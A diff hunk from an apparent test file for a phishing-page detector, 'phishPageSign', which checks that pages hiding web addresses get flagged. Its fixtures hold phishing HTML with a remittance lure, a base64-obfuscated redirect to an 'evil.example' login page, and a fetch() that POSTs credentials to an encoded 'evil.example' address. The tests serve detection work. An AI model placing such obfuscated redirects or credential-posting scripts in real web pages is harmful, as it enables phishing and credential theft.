@@ -160,7 +160,7 @@ test('phishPageSign: an SVG picture that runs a script, however it starts it', (
 
 test('phishPageSign: a web address written so that a scanner cannot read it', () => {
   const sign = (html: string) => phishPageSign(Buffer.from(html));
-  const HIDES = 'a web page that hides a web address';
+  const HIDES = 'a web page that hides a web address: evil.example';
   const document = '<p>Please review the attached remittance advice and confirm receipt with your account details. </p>'.repeat(5);
   assert.equal(sign(`<html><body>${document}<script>window.location.href = atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvbG9naW4=") + "#carol@example.com"</script></body></html>`), HIDES, 'base64, even below a page of text');
   assert.equal(sign('<html><script>fetch(atob("aHR0cDovL2V2aWwuZXhhbXBsZS9wb3N0"), {method: "POST", body: creds})</script></html>'), HIDES, 'http:// in base64: where the password goes');
